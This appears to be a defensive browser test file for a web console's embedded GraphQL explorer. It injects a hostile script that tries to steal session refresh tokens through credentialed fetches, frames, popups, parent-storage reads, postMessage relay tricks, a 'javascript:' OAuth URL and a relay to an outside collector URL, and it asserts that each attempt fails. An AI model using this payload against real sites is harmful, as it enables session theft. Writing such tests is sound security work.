/** The attack: whatever Apollo's servers send is hostile, and the user is logged in to the console in cookie mode. */
import type { BrowserContext } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { standInForApollo } from '../support/browser/apollo.js';
import { logIn, openTab, startConsole } from '../support/browser/console.js';

const REFRESH = 'mutation { refreshToken { accessToken refreshToken } }';
const LOGOUT = 'mutation { logout(input: { scope: ALL }) { endedSessions } }';
const COOKIE_MODE = { 'Latchkey-Refresh-Token': 'cookie', 'latchkey-refresh-token': 'cookie' };

/** Tries every way to the session that a script has, and puts what it got into `window.loot`. It works as a page, a frame and a script. */
const attackOn = (address: string) => `
  const api = '${address}/graphql';
  const attempt = (act) => new Promise((resolve) => resolve(act())).catch((error) => error.name);
  const post = (query, init) => attempt(() => fetch(api, { method: 'POST', body: JSON.stringify({ query }), ...init }).then((answer) => answer.text()));
  const json = { 'content-type': 'application/json' };
  const mode = { ...json, 'latchkey-refresh-token': 'cookie' };
  let count = 0;
  const relay = (message) => attempt(() => new Promise((resolve) => {
    const operationId = String(count += 1);
    addEventListener('message', ({ data }) => data.operationId === operationId && resolve(data.schema ?? data.error ?? data.errors ?? data.response));
    parent.postMessage({ operationId, ...message }, '*');
  }));
  const ask = (operation, headers) => relay({ name: 'ExplorerRequest', operation, headers, includeCookies: true, endpointUrl: api });
  const framed = (url) => attempt(() => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.onload = () => resolve(frame.contentDocument && frame.contentDocument.body.innerHTML);
    frame.src = url;
    document.documentElement.append(frame);
  }));
  const opened = (url) => attempt(() => new Promise((resolve, reject) => {
    const popup = open(url);
    const look = () => {
      try {
        if (!popup || popup.closed) return resolve('no window');
        if (popup.location.href !== 'about:blank') return resolve(popup.document.documentElement.outerHTML);
        setTimeout(look, 10);
      } catch (error) {
        reject(error);
      }
    };
    look();
  }));
  const attack = async () => ({
    withCookie: await post('${REFRESH}', { credentials: 'include', headers: mode }),
    withCredentials: await post('${REFRESH}', { credentials: 'include', headers: json }),
    withoutPreflight: await post('${REFRESH}', { credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
    popup: await opened('${address}/account'),
    frame: await framed('${address}/account'),
    parent: await attempt(() => parent.document.body.innerHTML),
    storage: await attempt(() => JSON.stringify(parent.localStorage)),
    navigation: await attempt(() => { top.location = 'https://sandbox.embed.apollographql.com/login'; }),
    ...(parent === self ? {} : await throughRelay()),
  });
  const throughRelay = async () => {
    parent.postMessage({ name: 'PreflightOAuthRequest', oauthUrl: 'javascript:opener.stolen = 1' }, '*');
    parent.postMessage({ name: 'SetPartialAuthenticationTokenForParent', localStorageKey: 'k', partialToken: 'planted' }, '*');
    return {
      refresh: await ask('${REFRESH}', ${JSON.stringify(COOKIE_MODE)}),
      logout: await ask('${LOGOUT}', ${JSON.stringify(COOKIE_MODE)}),
      schema: await relay({ name: 'IntrospectionQueryWithHeaders', introspectionRequestHeaders: ${JSON.stringify(COOKIE_MODE)}, includeCookies: true,
        introspectionRequestBody: JSON.stringify({ query: '${REFRESH}' }) }),
      elsewhere: await relay({ name: 'ExplorerRequest', operation: '${REFRESH}', endpointUrl: 'https://apollographql.com/collect' }),
      socket: await relay({ name: 'ExplorerSubscriptionRequest', operation: '${REFRESH}', headers: ${JSON.stringify(COOKIE_MODE)},
        subscriptionUrl: api, protocol: 'http-multipart', httpMultipartParams: { includeCookies: true } }),
    };
  };
  window.loot = attack();
`;

/** Opens a page with everything that it loads, and records which origins its scripts come from. */
async function openHostile(context: BrowserContext, path: string, script: string) {
  const scripts = new Set<string>();
  const { page } = await openTab(context, path, async (opened) => {
    opened.on('request', (request) => {
      if (request.resourceType() === 'script' && request.frame() === opened.mainFrame()) scripts.add(new URL(request.url()).origin);
    });
    await standInForApollo(opened, script);
  });
  return { page, scripts };
}

/** What a refresh or a logout without the cookie answers. */
const NO_REFRESH = { data: { refreshToken: { accessToken: null, refreshToken: null } } };

describe.each(['graphiql', 'sandbox', 'off'])('EXPLORER=%s', (EXPLORER) => {
  test.each(['/graphql', '/graphiql/sandbox'])('no script of another origin runs in this server’s: %s [R30]', async (path) => {
    const app = await startConsole({ settings: { EXPLORER } });
    const context = await app.openBrowser();
    const { page: victim } = await logIn(context);
    const { page, scripts } = await openHostile(context, path, attackOn(app.address));
    expect(await page.evaluate('loot').catch(() => 'nothing')).toBe('nothing');
    expect([...scripts].filter((origin) => origin !== app.address)).toEqual([]);
    const isFramed = path !== '/graphql' ? EXPLORER !== 'off' : EXPLORER === 'sandbox';
    // The attack itself adds a frame inside this one.
    const frames = page.frames().filter((frame) => frame.parentFrame() === page.mainFrame());
    expect(frames).toHaveLength(isFramed ? 1 : 0);
    for (const frame of frames) {
      expect(new URL(frame.url()).origin).toBe('https://sandbox.embed.apollographql.com');
      expect(await frame.evaluate('loot')).toEqual({
        withCookie: 'TypeError',
        withCredentials: 'TypeError',
        withoutPreflight: 'TypeError',
        popup: expect.stringMatching(/^(no window|SecurityError)$/),
        frame: null,
        parent: 'SecurityError',
        storage: 'SecurityError',
        navigation: 'SecurityError',
        refresh: expect.objectContaining(NO_REFRESH),
        logout: expect.objectContaining({
          errors: [expect.objectContaining({ extensions: { code: 'UNAUTHENTICATED', reason: 'TOKEN_MISSING' } })],
        }),
        schema: NO_REFRESH.data,
        elsewhere: expect.objectContaining(NO_REFRESH),
        socket: { data: NO_REFRESH },
      });
    }
    expect(new URL(page.url()).origin).toBe(app.address);
    expect(await page.evaluate('[{ ...localStorage }, window.stolen]')).toEqual([{}, undefined]);
    await victim.reload();
    await victim.getByText('This session').waitFor();
  });
});
